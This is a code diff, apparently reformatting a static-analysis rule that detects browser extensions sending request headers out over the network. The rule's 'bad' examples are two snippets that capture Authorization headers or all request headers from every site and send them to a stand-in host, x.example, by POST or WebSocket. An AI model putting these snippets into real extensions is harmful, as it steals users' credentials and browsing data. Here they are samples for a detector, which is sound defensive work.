@@ -21,19 +21,32 @@ export const requestHeadersSent = defineRule({
     for (const call of callsOf(script, ...EVENTS)) {
       if (!seesHeaders(script, call.args[2] ?? 0)) continue;
       const out = leavesBy(script, new Set([call.value]), ['network']);
-      if (out !== undefined) yield hit(call.value, { message: `They leave by ${out.to === '*' ? 'an open connection' : out.to}.`, ...(callAt(script, out.value).args.length > 0 ? {} : { confidence: 'low' as const }) });
+      if (out !== undefined)
+        yield hit(call.value, {
+          message: `They leave by ${out.to === '*' ? 'an open connection' : out.to}.`,
+          ...(callAt(script, out.value).args.length > 0 ? {} : { confidence: 'low' as const }),
+        });
     }
   }),
   examples: {
     bad: [
-      backgroundExample('chrome.webRequest.onSendHeaders.addListener((d) => { const a = d.requestHeaders.find((h) => h.name === "Authorization"); if (a) fetch("https://x.example/t", { method: "POST", body: a.value }); }, { urls: ["<all_urls>"] }, ["requestHeaders"]);'),
-      backgroundExample('const s = new WebSocket("wss://x.example"); const out = { tell: (k, d) => s.send(JSON.stringify({ k, d })) }; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { const all = {}; for (const h of d.requestHeaders) all[h.name] = h.value; out.tell("seen", { all, url: d.url }); }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]);'),
+      backgroundExample(
+        'chrome.webRequest.onSendHeaders.addListener((d) => { const a = d.requestHeaders.find((h) => h.name === "Authorization"); if (a) fetch("https://x.example/t", { method: "POST", body: a.value }); }, { urls: ["<all_urls>"] }, ["requestHeaders"]);',
+      ),
+      backgroundExample(
+        'const s = new WebSocket("wss://x.example"); const out = { tell: (k, d) => s.send(JSON.stringify({ k, d })) }; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { const all = {}; for (const h of d.requestHeaders) all[h.name] = h.value; out.tell("seen", { all, url: d.url }); }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]);',
+      ),
     ],
     good: [
-      backgroundExample('chrome.webRequest.onBeforeSendHeaders.addListener((d) => { d.requestHeaders.push({ name: "DNT", value: "1" }); return { requestHeaders: d.requestHeaders }; }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]); fetch("https://api.example.com/list");'),
-      backgroundExample('let n = 0; chrome.webRequest.onSendHeaders.addListener(() => { n++; }, { urls: ["<all_urls>"] }, ["requestHeaders"]); fetch("https://api.example.com/ping", { method: "POST", body: "1" });'),
+      backgroundExample(
+        'chrome.webRequest.onBeforeSendHeaders.addListener((d) => { d.requestHeaders.push({ name: "DNT", value: "1" }); return { requestHeaders: d.requestHeaders }; }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]); fetch("https://api.example.com/list");',
+      ),
+      backgroundExample(
+        'let n = 0; chrome.webRequest.onSendHeaders.addListener(() => { n++; }, { urls: ["<all_urls>"] }, ["requestHeaders"]); fetch("https://api.example.com/ping", { method: "POST", body: "1" });',
+      ),
     ],
   },
 });
 
-const seesHeaders = (script: ScriptFacts, list: number): boolean => itemsOf(script, list).some((item) => constant(script, item) === 'requestHeaders');
+const seesHeaders = (script: ScriptFacts, list: number): boolean =>
+  itemsOf(script, list).some((item) => constant(script, item) === 'requestHeaders');
